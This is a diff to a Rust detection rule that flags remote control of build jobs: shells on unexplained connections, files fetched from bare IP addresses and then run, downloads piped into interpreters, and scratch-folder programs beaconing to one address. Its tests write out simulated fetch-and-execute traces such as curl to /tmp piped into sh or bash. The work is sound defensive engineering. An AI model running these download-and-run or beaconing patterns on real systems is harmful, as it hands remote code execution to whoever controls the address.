@@ -2,7 +2,9 @@
 //!
 //! ## What it sees
 //! A shell without a script that is started by a process, or in a process, that has connected to a destination nothing explains; or an
-//! interactive shell next to such a process, as a pipe or a named pipe to a network tool makes it.
+//! interactive shell next to such a process, as a pipe or a named pipe to a network tool makes it. An interpreter that is given its code by a
+//! process that has connected out. What came from a bare address, run; by other people's code what came from anywhere, poured into a
+//! shell. A program from a scratch folder that takes a connection over, or that calls one bare address again and again.
 //!
 //! ## Why it matters
 //! From then on a person decides what the job does, with everything that the job may do.
@@ -14,9 +16,12 @@
 //! ## Known limits
 //! What a program fetches and runs by itself without a shell is seen as its connection and its acts, not as remote control.
 
-use super::{Act, Detection, Ground, Hit, attack, ground, named};
+use super::{
+    Act, Detection, Ground, Hit, attack, follows_arguments, ground, is_bare, is_bare_object, is_scratch,
+    named, reads_its_input, run_file,
+};
 use crate::divergence::Effect;
-use crate::event::{Launch, ProcessKey};
+use crate::event::{Activity, Launch, ProcessKey};
 use crate::finding::{Confidence, RuleId, Severity, Technique};
 use crate::intent::{basename, is_shell};
 use crate::lineage::Process;
@@ -34,7 +39,7 @@ pub const DETECTION: Detection = Detection {
 };
 
 /// A shell that is given its commands by whoever holds its input.
-fn is_bare(launch: &Launch) -> bool {
+fn is_plain_shell(launch: &Launch) -> bool {
     let name = launch.applet().map_or(basename(&launch.executable.path), |(applet, _)| applet);
     let words = launch.arguments.get(1..).unwrap_or_default();
     launch.script.is_none()
@@ -58,15 +63,176 @@ fn is_bare(launch: &Launch) -> bool {
 
 fn is_interactive(process: &Process) -> bool {
     process.launch.as_deref().is_some_and(|launch| {
-        is_bare(launch) && launch.arguments.iter().skip(1).any(|word| word.starts_with("-i") || word == "-li")
+        is_plain_shell(launch)
+            && launch.arguments.iter().skip(1).any(|word| word.starts_with("-i") || word == "-li")
     })
 }
+
+/// How often one bare address is called before it looks like waiting for orders.
+const CALLS: usize = 3;
+/// How far apart a download and the interpreter that it is poured into may start.
+const TOGETHER_NS: u64 = 5_000_000_000;
 
 fn check(act: &Act<'_>) -> Vec<Hit> {
     let ground = ground(act);
     if ground == Ground::Named {
         return Vec::new();
     }
+    let mut hits = on_a_connection(act, ground);
+    if hits.is_empty() {
+        hits = match (act.effect, act.activity) {
+            (Effect::Launch { .. }, Activity::Launch(launch)) => brought(act, launch, ground),
+            (Effect::Connect { object, .. }, _) if act.explanation.is_undeclared() => {
+                called(act, object, ground)
+            }
+            _ => Vec::new(),
+        };
+    }
+    hits
+}
+
+/// What was fetched runs: a file, the input of an interpreter, or the image of the process that is connected.
+fn brought(act: &Act<'_>, launch: &Launch, ground: Ground) -> Vec<Hit> {
+    let own = act.process;
+    let strand = act.lineage.strand(own.key);
+    let sure = if ground == Ground::Foreign { Confidence::High } else { Confidence::Medium };
+    let who = named(act.lineage, own.key);
+    let file = run_file(launch);
+    let tell = |title: String, object: &str, evidence: u64| {
+        let mut hits = attack(act, &DETECTION, (Severity::High, sure), title, object);
+        hits[0].evidence.push(evidence);
+        hits
+    };
+    let fetched = strand.noted("fetched").chain(strand.noted("scratch-file")).find(|note| {
+        let is_from_bare = |contact: &&crate::lineage::Touch| {
+            contact.process == note.process && is_bare_object(&contact.object)
+        };
+        note.object == file && strand.contacts.iter().any(|contact| is_from_bare(&contact))
+    });
+    if let Some(note) = fetched {
+        let from = named(act.lineage, note.process);
+        return tell(
+            format!("{who} runs {file}, which {from} brought from a bare address"),
+            &file,
+            note.sequence,
+        );
+    }
+    // The words of the download name the file, whether or not it came.
+    let promised = strand.contacts.iter().filter(|contact| is_bare_object(&contact.object)).find(|contact| {
+        let getter = act.lineage.get(contact.process);
+        getter.is_some_and(|getter| {
+            let launch = getter.launch.as_deref();
+            follows_arguments(getter)
+                && launch.is_some_and(|launch| {
+                    launch.arguments.iter().skip(1).any(|word| is_path_of(word, &file, &launch.directory))
+                })
+        })
+    });
+    if let Some(contact) = promised {
+        let from = named(act.lineage, contact.process);
+        return tell(
+            format!("{who} runs {file}, which {from} was to bring from {}", contact.object),
+            &file,
+            contact.sequence,
+        );
+    }
+    let is_brought = is_scratch(&file) && act.lineage.has_written(&file);
+    if is_brought
+        && let Some(contact) = strand
+            .contacts
+            .iter()
+            .find(|contact| contact.process == own.key && is_bare_object(&contact.object))
+    {
+        return tell(
+            format!("{file} took over the connection to {}", contact.object),
+            &file,
+            contact.sequence,
+        );
+    }
+    if !reads_its_input(launch) {
+        return Vec::new();
+    }
+    let giver = strand.contacts.iter().find(|contact| own.parent == Some(contact.process));
+    if let Some(contact) = giver {
+        let from = named(act.lineage, contact.process);
+        let title = format!("{who} runs what {from} gave it, after a connection to {}", contact.object);
+        return tell(title, &launch.executable.path, contact.sequence);
+    }
+    // The other end of a pipe connects when it is ready; see below.
+    let poured = strand
+        .contacts
+        .iter()
+        .find(|contact| is_poured(act, own.key, contact.process, &contact.object, ground));
+    poured.map_or_else(Vec::new, |contact| {
+        let from = named(act.lineage, contact.process);
+        tell(
+            format!("{who} runs what {from} fetches from {}", contact.object),
+            &launch.executable.path,
+            contact.sequence,
+        )
+    })
+}
+
+/// Whether a word of a download names this file.
+fn is_path_of(word: &str, file: &str, directory: &str) -> bool {
+    let word = word
+        .strip_prefix("-o")
+        .or_else(|| word.strip_prefix("-O"))
+        .filter(|rest| !rest.is_empty())
+        .unwrap_or(word);
+    word == file
+        || (!word.starts_with(['/', '-'])
+            && crate::event::normal_path(&format!("{directory}/{word}")) == *file)
+}
+
+/// Whether a transfer tool and an interpreter that reads its input stand on the two ends of a pipe.
+fn is_poured(act: &Act<'_>, sink: ProcessKey, source: ProcessKey, object: &str, ground: Ground) -> bool {
+    let (Some(sink), Some(source)) = (act.lineage.get(sink), act.lineage.get(source)) else { return false };
+    sink.parent == source.parent
+        && follows_arguments(source)
+        && sink.started.0.abs_diff(source.started.0) <= TOGETHER_NS
+        && (ground == Ground::Foreign || is_bare_object(object))
+}
+
+/// A connection that pours into an interpreter, or that a program from a scratch folder makes again and again.
+fn called(act: &Act<'_>, object: &str, ground: Ground) -> Vec<Hit> {
+    let own = act.process;
+    let sure = if ground == Ground::Foreign { Confidence::High } else { Confidence::Medium };
+    let who = named(act.lineage, own.key);
+    let sink = act.lineage.siblings(own.key).into_iter().find(|sink| {
+        sink.launched
+            && sink.launch.as_deref().is_some_and(reads_its_input)
+            && is_poured(act, sink.key, own.key, object, ground)
+    });
+    if let Some(sink) = sink {
+        let title = format!("{} runs what {who} fetches from {object}", sink.name);
+        let mut hits = attack(act, &DETECTION, (Severity::High, sure), title, object);
+        hits[0].evidence.push(sink.evidence);
+        return hits;
+    }
+    let file = own.launch.as_deref().map(run_file).unwrap_or_default();
+    let is_brought = is_scratch(&file) && act.lineage.has_written(&file) && !is_built(act);
+    let prefix = format!("{object} ");
+    let strand = act.lineage.strand(own.key);
+    let calls = strand
+        .noted("bare-contact")
+        .filter(|note| note.process == own.key && note.object.starts_with(&prefix))
+        .count();
+    if !is_bare(act) || !is_brought || calls + 1 < CALLS {
+        return Vec::new();
+    }
+    let title = format!("{who}, which runs from a scratch folder, calls {object} again and again");
+    attack(act, &DETECTION, (Severity::High, sure), title, object)
+}
+
+/// Whether a build tool made the program and runs it, as tests are run.
+fn is_built(act: &Act<'_>) -> bool {
+    let parent = act.process.parent.and_then(|parent| act.lineage.get(parent));
+    parent.is_some_and(|parent| matches!(parent.tool, Some("go" | "cargo" | "tests")))
+}
+
+/// A shell that hangs on a connection.
+fn on_a_connection(act: &Act<'_>, ground: Ground) -> Vec<Hit> {
     let own = act.process.key;
     let weight = match ground {
         Ground::Foreign => (Severity::Critical, Confidence::High),
@@ -75,7 +241,7 @@ fn check(act: &Act<'_>) -> Vec<Hit> {
     let strand = act.lineage.strand(own);
     match act.effect {
         Effect::Launch { program } => {
-            if !act.process.launch.as_deref().is_some_and(is_bare) {
+            if !act.process.launch.as_deref().is_some_and(is_plain_shell) {
                 return Vec::new();
             }
             let is_near = |other: ProcessKey| {
@@ -137,6 +303,62 @@ mod tests {
                 );
             }
         }
+    }
+
+    #[test]
+    fn what_was_fetched_runs() {
+        for (acts, object) in [
+            (
+                "3 > 4 launch /usr/bin/curl curl -o /tmp/q http://203.0.113.7/q\n4 connect 203.0.113.7:80\n3 > 5 launch /usr/bin/dash sh /tmp/q",
+                "/tmp/q",
+            ),
+            (
+                "3 connect 203.0.113.7:80\n3 create /w/x.py\n3 > 5 launch /usr/bin/python3.11 python3 x.py",
+                "/w/x.py",
+            ),
+            ("3 create /tmp/m\n3 connect 203.0.113.7:3333\n3 launch /tmp/m m", "/tmp/m"),
+            ("3 connect 203.0.113.7:443\n3 > 4 launch /usr/bin/python3.11 python3 -", "/usr/bin/python3.11"),
+            (
+                "3 > 4 launch /usr/bin/curl curl http://203.0.113.7\n3 > 5 launch /usr/bin/bash bash\n4 connect 203.0.113.7:80",
+                "203.0.113.7:80",
+            ),
+            (
+                "3 create /tmp/b\n3 > 4 launch /tmp/b b\n4 connect 203.0.113.7:80\n4 connect 203.0.113.7:80\n4 connect 203.0.113.7:80",
+                "203.0.113.7:80",
+            ),
+        ] {
+            let trace = format!(
+                "1 > 2 launch /usr/bin/make make\n2 > 3 launch /usr/bin/python3.11 python3 y.py\n{acts}"
+            );
+            let lines = findings("make\n", "", &trace);
+            let wanted = format!("!remote-control attack high {object}");
+            assert!(lines.contains(&wanted), "{acts}: {lines:?}");
+        }
+    }
+
+    #[test]
+    fn tools_that_a_project_fetches_by_name_and_runs_stay_quiet() {
+        let lines = findings(
+            "make\n",
+            "",
+            "answer get.example 203.0.113.2
+             1 > 2 launch /usr/bin/make make
+             2 > 3 launch /usr/bin/dash sh x.sh
+             3 > 4 launch /usr/bin/curl curl -o /tmp/get.sh https://get.example/x
+             4 connect 203.0.113.2:443
+             4 create /tmp/get.sh
+             3 > 5 launch /usr/bin/dash sh /tmp/get.sh
+             3 > 6 launch /usr/bin/curl curl https://get.example/x
+             6 connect 203.0.113.2:443
+             3 > 7 launch /usr/bin/dash sh
+             3 > 8 launch /usr/bin/go go test
+             8 create /tmp/go-build1/x.test
+             8 > 9 launch /tmp/go-build1/x.test x.test
+             9 connect 203.0.113.9:80
+             9 connect 203.0.113.9:80
+             9 connect 203.0.113.9:80",
+        );
+        assert!(!lines.iter().any(|line| line.contains("remote-control")), "{lines:?}");
     }
 
     #[test]
